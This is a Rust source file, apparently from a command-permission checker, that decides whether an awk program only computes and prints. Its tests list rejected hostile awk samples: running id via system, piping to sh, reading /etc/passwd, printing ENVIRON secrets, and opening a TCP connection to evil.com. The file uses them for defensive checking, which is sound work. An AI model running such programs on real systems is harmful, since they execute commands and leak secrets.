//! Programs of awk: which of them only compute and print.

use super::permits::walk;
use super::scripts::Reader;
use super::word::Word;

/// The word of an awk command that holds its program, where that is not plain.
pub(super) fn of_awk(words: &[Word]) -> Vec<usize> {
    let program = walk("awk", words).operands.first().copied();
    let is_plain = |at: &usize| words[*at].known_text().is_some_and(is_plain_awk);
    program.into_iter().filter(|at| !is_plain(at)).collect()
}

/// What stood last in a program of awk: it says whether a slash divides.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Last {
    /// A value: a slash behind it divides.
    Value,
    /// `++` or `--`: what a slash is behind it depends.
    Step,
    /// Something after which a statement goes on in the next line.
    Open,
    /// Anything else.
    Other,
}

/// Words of awk that are no values.
const AWK_WORDS: &[&str] = &[
    "print", "printf", "return", "in", "if", "else", "while", "for", "do", "delete", "exit", "next", "case", "switch",
    "func", "function",
];

/// Whether a program of awk only computes and prints: it runs nothing, and neither reads nor writes a file of its choice.
/// `>` writes in a `print` outside of parentheses only, and `|` is a pipe unless it is doubled.
fn is_plain_awk(program: &str) -> bool {
    let mut reader = Reader { rest: program };
    let mut last = Last::Other;
    let mut depth = 0_usize;
    // Whether a `print` goes on, and how deep it began.
    let mut printing = None;
    while let Some(c) = reader.take() {
        last = match c {
            ' ' | '\t' => last,
            '\n' if last == Last::Open || printing.is_some_and(|began| depth > began) => last,
            '\n' | ';' | '}' | '{' => {
                printing = None;
                Last::Other
            }
            '#' => {
                reader.skip(|c| c != '\n');
                last
            }
            '"' if reader.replacement('"').is_some() => Last::Value,
            '/' if last == Last::Value => Last::Other,
            '/' if last != Last::Step && reader.until('/').is_some() => Last::Value,
            '(' => {
                depth += 1;
                Last::Other
            }
            ')' => {
                depth = depth.saturating_sub(1);
                Last::Value
            }
            ']' => Last::Value,
            ',' => Last::Open,
            '|' if reader.takes('|') => Last::Open,
            '&' if reader.takes('&') => Last::Open,
            '>' if printing.is_none_or(|began| depth > began) => Last::Other,
            '+' if reader.takes('+') => Last::Step,
            '-' if reader.takes('-') => Last::Step,
            '?' | ':' => Last::Open,
            '+' | '-' | '*' | '%' | '^' | '=' | '!' | '<' | '~' | '$' | '[' => Last::Other,
            c if c.is_ascii_alphanumeric() || matches!(c, '_' | '.') => {
                let from = reader.rest;
                let length = reader.skip(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '.'));
                let word = format!("{c}{}", &from[..length]);
                match word.as_str() {
                    // The names of files and the environment are not the program's to choose or to read.
                    "system" | "getline" | "ENVIRON" | "ARGV" | "ARGC" | "SYMTAB" => return false,
                    "print" | "printf" => printing = printing.or(Some(depth)),
                    _ => {}
                }
                if AWK_WORDS.contains(&word.as_str()) { Last::Other } else { Last::Value }
            }
            _ => return false,
        };
    }
    true
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_an_awk_program_does_is_looked_at() {
        for program in [
            "{print $1}",
            "NR>=10 && NR<=20",
            "{print $2}",
            "$3 > 5",
            "{ if ($1 > 2) print $2 }",
            "/a|b/",
            "/a/ || /b/",
            "{ print ($1 > 2) }",
            "BEGIN { FS=\",\" } { s += $2 } END { print s/NR }",
            "{ printf \"%s > %s\\n\", $1, $2 }",
            "NR==FNR { a[$1]; next } $1 in a",
            "{ print length($0) }",
            "$0 ~ /x>y/ { n++ } END { print n }",
            "!seen[$0]++",
            "{ gsub(/\\//, \"-\"); print }",
            "{ print toupper(substr($1, 1, 1)) substr($1, 2) } # a > b",
        ] {
            assert!(is_plain_awk(program), "{program}");
        }
        for program in [
            "BEGIN{system(\"id\")}",
            "{print > \"x\"}",
            "{print >> \"x\"}",
            "{print | \"sh\"}",
            "{print($1) > \"x\"}",
            "\"id\" | getline x",
            "{ getline < \"/etc/passwd\" }",
            "@load \"x\"",
            "{ @f() }",
            "{ print $1,\n$2 > \"x\" }",
            "{ print \"a\" |& \"sh\" }",
            "{ print /[/]/ > \"x\" }",
            "{ print a ? b : c > \"x\" }",
            "{ x++ /1/ 2 }",
            "{ print `id` }",
            "{ print \"",
            "{ for (;;) print $1 > $2 }",
            "{print (1)(2) > \"x\"}",
            "BEGIN{print ENVIRON[\"SECRET\"]}",
            "BEGIN{ARGV[ARGC++]=\"/inet/tcp/0/evil.com/80\"}{print}",
        ] {
            assert!(!is_plain_awk(program), "{program}");
        }
    }
}
